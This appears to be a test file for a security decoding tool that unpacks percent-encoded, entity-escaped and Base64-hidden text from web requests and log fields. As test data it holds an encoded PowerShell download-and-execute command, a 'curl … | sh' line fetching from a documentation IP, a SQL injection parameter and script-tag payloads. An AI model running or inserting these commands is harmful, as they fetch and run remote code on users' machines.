import { describe, expect, it } from 'vitest';
import { decode, hidden, parametersOf } from './decode.js';
import { exchangeOf } from './exchange.js';

describe('decode', () => {
  it.each<[string, string, readonly string[]]>([
    ['/plain', '/plain', []],
    ['/a%20b', '/a b', ['percent']],
    ['%252e%252e%252f', '../', ['percent', 'percent']],
    ['%E4%B8%AD%ff', '%E4%B8%AD%ff', []],
    ['%E4%B8%AD', '中', ['percent']],
    ['&lt;script&#x3e;&#39;', "<script>'", ['entities']],
    ['\\x2fbin\\u002fsh', '/bin/sh', ['escapes']],
    ['%26lt%3Bsvg%26gt%3B', '<svg>', ['percent', 'entities']],
    ['100%', '100%', []],
    ['&#x110000;', '&#x110000;', []],
  ])('%s', (text, expected, steps) => {
    expect(decode(text)).toEqual({ text: expected, steps });
  });

  it('ends with what feeds on itself', () => {
    expect(decode(`%${'25'.repeat(50)}41`).steps).toHaveLength(4);
    expect(decode('%41'.repeat(100_000)).text.length).toBeLessThan(6_000);
  });
});

describe('hidden texts', () => {
  const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
  it('finds what PowerShell was given', () => {
    const command = `powershell -nop -enc ${wide("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')")}`;
    expect(hidden(command)).toEqual([
      {
        text: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')",
        steps: ['base64', 'utf16'],
      },
    ]);
  });
  it('finds plain Base64, and leaves words and digests alone', () => {
    expect(hidden(`echo ${btoa('curl http://198.51.100.9/x | sh')} | base64 -d`)[0]?.text).toBe(
      'curl http://198.51.100.9/x | sh',
    );
    expect(hidden('/usr/share/applications/preferences/default')).toEqual([]);
    expect(hidden('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')).toEqual([]);
  });
});

it('takes parameters apart', () => {
  expect(parametersOf('id=1%27+or+1%3D1&x&=y')).toEqual([
    { name: 'id', value: { text: "1' or 1=1", steps: ['percent'] } },
    { name: 'x', value: { text: '', steps: [] } },
    { name: '', value: { text: 'y', steps: [] } },
  ]);
});

describe('exchanges', () => {
  it('reads a web request and its answer', () => {
    const found = exchangeOf({
      ...{ 'http.request.method': 'GET', 'url.original': '/a?q=%3Cscript%3E', 'url.query': 'q=%3Cscript%3E' },
      ...{ 'http.response.status_code': 200, 'user_agent.original': 'curl/8' },
    });
    expect(found).toMatchObject({
      kind: 'http',
      asked: { text: 'GET /a?q=<script>' },
      parameters: [{ name: 'q', value: { text: '<script>' } }],
      about: [{ path: 'user_agent.original', text: 'curl/8' }],
      answered: [{ path: 'http.response.status_code', text: '200' }],
    });
  });
  it('reads a command, a question, a statement, and nothing else', () => {
    expect(exchangeOf({ 'process.command_line': 'id' })?.kind).toBe('command');
    expect(exchangeOf({ 'dns.question.name': 'a.example', 'dns.question.type': 'TXT' })?.asked.text).toBe(
      'TXT a.example',
    );
    expect(exchangeOf({ 'postgresql.log.query': 'select 1' })?.kind).toBe('database');
    expect(exchangeOf({ message: 'x' })).toBeUndefined();
  });
});
